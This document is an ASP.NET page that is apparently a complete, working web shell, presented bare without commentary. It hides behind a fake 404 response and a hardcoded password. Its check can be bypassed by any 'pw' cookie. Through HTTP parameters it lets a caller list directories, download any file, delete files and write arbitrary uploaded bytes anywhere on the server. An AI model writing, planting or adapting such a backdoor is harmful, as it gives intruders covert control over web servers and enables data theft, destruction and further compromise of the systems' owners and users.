<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
const string PW = "Adm1n!2021";
protected void Page_Load(object sender, EventArgs e)
{
    if (Request["pw"] != PW && Request.Cookies["pw"] == null) { Response.StatusCode = 404; Response.End(); }
    string act = Request["act"];
    string p = Request["p"] ?? @"C:\";
    if (act == "ls")
    {
        foreach (string d in Directory.GetDirectories(p)) Response.Write("[D] " + d + "<br/>");
        foreach (string f in Directory.GetFiles(p)) Response.Write(f + " " + new FileInfo(f).Length + "<br/>");
    }
    else if (act == "get")
    {
        Response.ContentType = "application/octet-stream";
        Response.WriteFile(p);
    }
    else if (act == "del")
    {
        File.Delete(p);
    }
    else if (act == "put")
    {
        File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["d"]));
    }
}
</script>
